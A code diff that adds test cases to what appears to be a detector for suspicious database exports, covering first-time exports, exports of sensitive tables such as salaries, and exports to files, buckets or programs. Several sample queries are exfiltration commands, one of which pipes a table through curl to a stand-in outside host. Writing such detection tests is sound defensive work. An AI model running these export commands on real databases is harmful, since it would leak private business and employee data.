@@ -344,6 +344,49 @@ export const dataCases: Record<string, RuleCases> = {
       ),
     },
   },
+  first_export: {
+    fires: {
+      'a table': [...log(14), query(at(14), ann, 'COPY sales.orders TO STDOUT')],
+      'another one than always': [
+        ...used(ann, 'copy sales.orders to stdout'),
+        query(at(14), ann, 'copy (select * from sales.refunds) to stdout csv'),
+      ],
+      'of Redshift': [
+        ...log(14),
+        query(at(14), ann, "unload ('select * from sales.orders') to 's3://b/x' iam_role 'r'", {
+          dialect: 'redshift',
+        }),
+      ],
+    },
+    quiet: {
+      'what they always export': used(ann, 'copy sales.orders to stdout'),
+      'a program': [...log(14), query(at(14), dbt, 'copy sales.orders to stdout')],
+      'an import': [...log(14), query(at(14), ann, 'copy sales.orders from stdin')],
+    },
+  },
+  sensitive_export: {
+    fires: { 'a tagged table': [...log(14), query(at(14), ann, 'copy hr.salaries to stdout')] },
+    quiet: {
+      'a table without a tag': [...log(14), query(at(14), ann, 'copy sales.orders to stdout')],
+      'what they always export': used(ann, 'copy hr.salaries to stdout'),
+    },
+  },
+  export_outside: {
+    fires: {
+      'into a file': [query(at(0), ann, "copy sales.orders to '/tmp/x.csv' csv")],
+      'to a program': [query(at(0), ann, "copy sales.orders to program 'curl -T - x.example'")],
+      'into a bucket': [
+        query(at(0), ann, "unload ('select 1 from a.b') to 's3://b/x'", { dialect: 'redshift' }),
+      ],
+      'of MySQL': [query(at(0), ann, "select * from a.b into outfile '/tmp/x'", { dialect: 'mysql' })],
+      'of Snowflake': [query(at(0), ann, 'copy into @~/x from a.b', { dialect: 'snowflake' })],
+    },
+    quiet: {
+      'to the client': [query(at(0), ann, 'copy sales.orders to stdout')],
+      'a program': [query(at(0), dbt, "copy sales.orders to '/tmp/x.csv' csv")],
+      'from a bucket': [query(at(0), ann, "copy sales.orders from 's3://b/x'", { dialect: 'redshift' })],
+    },
+  },
   first_audit_log_export: {
     fires: { 'after two weeks': [...log(14), download(at(14))] },
     quiet: {
